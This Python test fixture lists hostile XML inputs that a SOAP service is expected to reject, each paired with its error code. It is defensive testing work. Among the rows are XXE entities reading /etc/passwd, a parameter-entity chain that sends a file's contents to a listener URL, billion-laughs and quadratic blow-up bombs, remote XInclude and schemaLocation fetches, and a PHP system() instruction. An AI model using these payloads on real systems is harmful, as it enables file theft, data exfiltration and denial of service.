"""What XML allows and this door does not: DTDs, entities, instructions, includes; and what is not XML."""

from hostile.shapes import BODY, CANARY, DECLARED, VALID, XSI, attribute, changed, envelope, value

LISTENER = "http://127.0.0.1:{port}/" + CANARY
"""Where external things are said to be; the test puts the port of a socket there that must hear nothing."""


def _with_dtd(dtd: str, message: str = VALID) -> bytes:
    return (DECLARED + dtd + message).encode()


def _laughing(times: int) -> str:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, times))
    return f'<!DOCTYPE a [<!ENTITY l0 "{CANARY}">{entities}]>'


_USED = changed(f">{CANARY}<", ">&e;<").decode()

ROWS = [
    ("an empty DTD", "WSEC0001 doctype", _with_dtd("<!DOCTYPE a>")),
    ("a DTD with an element", "WSEC0001 doctype", _with_dtd(f"<!DOCTYPE a [<!ELEMENT {CANARY} ANY>]>")),
    ("a DTD by SYSTEM over HTTP", "WSEC0001 doctype", _with_dtd(f'<!DOCTYPE a SYSTEM "{LISTENER}">')),
    ("a DTD by PUBLIC", "WSEC0001 doctype", _with_dtd(f'<!DOCTYPE a PUBLIC "-//x//y" "{LISTENER}">')),
    ("a DTD from a file", "WSEC0001 doctype", _with_dtd('<!DOCTYPE a SYSTEM "file:///etc/passwd">')),
    ("a DTD after a comment", "WSEC0001 doctype", _with_dtd(f"<!-- {CANARY} < --><!DOCTYPE a>")),
    ("a DTD after an instruction", "WSEC0001 doctype", _with_dtd("<?x <!?><!DOCTYPE a>")),
    ("a DTD without a declaration before", "WSEC0001 doctype", b"<!DOCTYPE a>" + VALID.encode()),
    ("a DTD in the body", "WSEC0001 not-well-formed", envelope(f"<!DOCTYPE a>{BODY}")),
    ("a DTD after the message", "WSEC0001 not-well-formed", VALID.encode() + b"<!DOCTYPE a>"),
    ("two DTDs", "WSEC0001 doctype", _with_dtd("<!DOCTYPE a><!DOCTYPE a>")),
    ("a DTD in small letters", "WSEC0001 not-well-formed", _with_dtd("<!doctype a>")),
    ("a DTD cut off", "WSEC0001 doctype", b"<!DOCTYPE"),
    ("an internal entity", "WSEC0001 doctype", _with_dtd(f'<!DOCTYPE a [<!ENTITY e "{CANARY}">]>', _USED)),
    ("an entity from a file", "WSEC0001 doctype", _with_dtd('<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>', _USED)),
    ("an entity over HTTP", "WSEC0001 doctype", _with_dtd(f'<!DOCTYPE a [<!ENTITY e SYSTEM "{LISTENER}">]>', _USED)),
    ("an entity over FTP", "WSEC0001 doctype", _with_dtd('<!DOCTYPE a [<!ENTITY e SYSTEM "ftp://127.0.0.1/x">]>', _USED)),
    ("an entity by PHP", "WSEC0001 doctype", _with_dtd('<!DOCTYPE a [<!ENTITY e SYSTEM "php://filter/x">]>', _USED)),
    ("an entity by jar", "WSEC0001 doctype", _with_dtd('<!DOCTYPE a [<!ENTITY e SYSTEM "jar:http://x!/y">]>', _USED)),
    ("a share of Windows", "WSEC0001 doctype", _with_dtd(r'<!DOCTYPE a [<!ENTITY e SYSTEM "\\127.0.0.1\x">]>', _USED)),
    ("a parameter entity", "WSEC0001 doctype", _with_dtd(f'<!DOCTYPE a [<!ENTITY % p "{CANARY}"> %p;]>')),
    ("a parameter entity over HTTP", "WSEC0001 doctype", _with_dtd(f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{LISTENER}"> %p;]>')),
    ("a file sent out by parameter entities", "WSEC0001 doctype", _with_dtd(
        f'<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % o "<!ENTITY e SYSTEM \'{LISTENER}?%f;\'>">%o;]>', _USED
    )),
    ("an unparsed entity", "WSEC0001 doctype", _with_dtd(f'<!DOCTYPE a [<!ENTITY e SYSTEM "{LISTENER}" NDATA n>]>')),
    ("a notation", "WSEC0001 doctype", _with_dtd(f'<!DOCTYPE a [<!NOTATION n SYSTEM "{LISTENER}">]>')),
    ("an attribute by default", "WSEC0001 doctype", _with_dtd(f'<!DOCTYPE a [<!ATTLIST a b CDATA "{CANARY}">]>')),
    ("an entity of itself", "WSEC0001 doctype", _with_dtd('<!DOCTYPE a [<!ENTITY e "&e;">]>', _USED)),
    ("billion laughs", "WSEC0001 doctype", _with_dtd(_laughing(10), changed(f">{CANARY}<", ">&l9;<").decode())),
    ("billion laughs in an attribute", "WSEC0001 doctype", _with_dtd(_laughing(10), '<a b="&l9;"/>')),
    ("quadratic blow-up", "WSEC0001 doctype", lambda: _with_dtd(
        f'<!DOCTYPE a [<!ENTITY e "{CANARY * 4000}">]>', "<a>" + "&e;" * 4000 + "</a>"
    )),
    ("entities without a DTD", "WSEC0001 entity", _USED.encode()),
    ("an entity of HTML", "WSEC0001 entity", value("FamilyName", "&nbsp;")),
    ("an entity in an attribute", "WSEC0001 entity", attribute("FamilyName", 'a="&e;"')),
    ("a parameter entity outside a DTD", "WSEC0001 cvc-pattern-valid", value("ULN", "%p;")),
    ("an instruction before", "WSEC0001 processing-instruction", (f"<?{CANARY} y?>{VALID}").encode()),
    ("an instruction after", "WSEC0001 processing-instruction", (f"{VALID}<?{CANARY} y?>").encode()),
    ("an instruction in the Body", "WSEC0001 processing-instruction", envelope(f"<?{CANARY}?>{BODY}")),
    ("an instruction in a value", "WSEC0001 processing-instruction", value("FamilyName", f"<?{CANARY}?>x")),
    ("a style sheet", "WSEC0001 processing-instruction", (f'<?xml-stylesheet href="{LISTENER}"?>{VALID}').encode()),
    ("a program of PHP", "WSEC0001 processing-instruction", (f"<?php system('{CANARY}'); ?>{VALID}").encode()),
    ("a second declaration", "WSEC0001 not-well-formed", (DECLARED + DECLARED + VALID).encode()),
    ("a declaration inside", "WSEC0001 not-well-formed", envelope(DECLARED + BODY)),
    ("XInclude of a file in a value", "WSEC0001 cvc-type.3.1.2", value(
        "FamilyName", '<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>'
    )),
    ("XInclude over HTTP as the body", "WSEC0002 unknown-request", envelope(
        f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{LISTENER}"/>'
    )),
    ("XInclude as the document", "WSEC0001 no-envelope", (
        f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{LISTENER}"/>'
    ).encode()),
    ("schemaLocation over HTTP", "WSRC0004", attribute("m:FindLearnerByULN", f'{XSI} xsi:schemaLocation="urn:x {LISTENER}"')),
    ("schemaLocation of our own namespace", "WSRC0004", attribute(
        "m:FindLearnerByULN", f'{XSI} xsi:schemaLocation="http://api.lrs.miap.gov.uk/findmsg {LISTENER}"'
    )),
    ("schemaLocation of a file", "WSRC0004", attribute("FamilyName", f'{XSI} xsi:schemaLocation="urn:x file:///etc/passwd"')),
    ("noNamespaceSchemaLocation over HTTP", "WSRC0004", attribute("ULN", f'{XSI} xsi:noNamespaceSchemaLocation="{LISTENER}"')),
    ("schemaLocation on the envelope", "WSRC0004", attribute("soapenv:Envelope", f'{XSI} xsi:schemaLocation="urn:x {LISTENER}"')),
    ("a schema in the body", "WSEC0002 unknown-request", envelope(
        f'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:import schemaLocation="{LISTENER}"/></xs:schema>'
    )),
    ("a namespace that could be fetched", "WSEC0002 unknown-request", envelope(f'<x xmlns="{LISTENER}"/>')),
    ("xml:base", "WSEC0001 cvc-complex-type.3.2.2", attribute("m:FindLearnerByULN", f'xml:base="{LISTENER}"')),
    ("XML 1.1", "WSEC0001 illegal-character", f'<?xml version="1.1"?><{CANARY}>&#1;</{CANARY}>'.encode()),
    ("XML 9.9", "WSEC0001 not-well-formed", f'<?xml version="9.9"?>{VALID}'.encode()),
    ("a tag left open", "WSEC0001 not-well-formed", VALID[:-1].encode()),
    ("an end tag of another", "WSEC0001 not-well-formed", changed("</FamilyName>", f"</{CANARY}>")),
    ("an attribute twice", "WSEC0001 not-well-formed", attribute("ULN", f'a="{CANARY}" a="{CANARY}"')),
    ("an attribute twice by two prefixes", "WSEC0001 not-well-formed", attribute("ULN", 'xmlns:p="u:u" xmlns:q="u:u" p:a="" q:a=""')),
    ("an attribute without quotes", "WSEC0001 not-well-formed", attribute("ULN", f"a={CANARY}")),
    ("a prefix that is not declared", "WSEC0001 not-well-formed", value("FamilyName", f"<{CANARY}:x/>")),
    ("the prefix xmlns bound", "WSEC0001 not-well-formed", attribute("ULN", 'xmlns:xmlns="urn:x"')),
    ("the prefix xml bound to another", "WSEC0001 not-well-formed", attribute("ULN", 'xml:lang="en" xmlns:xml="urn:x"')),
    ("CDATA left open", "WSEC0001 not-well-formed", value("FamilyName", f"<![CDATA[{CANARY}")),
    ("the end of CDATA alone", "WSEC0001 not-well-formed", value("FamilyName", "]]>")),
    ("a comment left open", "WSEC0001 not-well-formed", value("FamilyName", f"<!-- {CANARY}")),
    ("a comment with two hyphens", "WSEC0001 not-well-formed", value("FamilyName", "<!-- a -- b -->")),
    ("two documents", "WSEC0001 not-well-formed", (VALID + VALID).encode()),
    ("text after the document", "WSEC0001 not-well-formed", (VALID + CANARY).encode()),
    ("nothing", "WSEC0001 empty", b""),
    ("blanks", "WSEC0001 empty", b" \r\n\t" * 100),
    ("JSON", "WSEC0001 not-xml", f'{{"FamilyName": "{CANARY}"}}'.encode()),
    ("a form", "WSEC0001 not-xml", f"FamilyName={CANARY}&ULN=1".encode()),
    ("HTML", "WSEC0001 no-envelope", f"<html><body>{CANARY}</body></html>".encode()),
    ("HTML with its DTD", "WSEC0001 doctype", f"<!DOCTYPE html><html>{CANARY}</html>".encode()),
    ("serialised Java", "WSEC0001 not-xml", b"\xac\xed\x00\x05sr" + CANARY.encode()),
    ("a pickle of Python", "WSEC0001 not-xml", b"\x80\x04\x95" + CANARY.encode()),
    ("a ZIP file", "WSEC0001 not-xml", b"PK\x03\x04" + CANARY.encode()),
    ("binary XML", "WSEC0001 not-xml", b"\xe0\x00\x00\x01" + CANARY.encode()),
    ("a request of HTTP in a request", "WSEC0001 not-xml", f"POST / HTTP/1.1\r\nHost: {CANARY}\r\n\r\n".encode()),
]  # fmt: skip
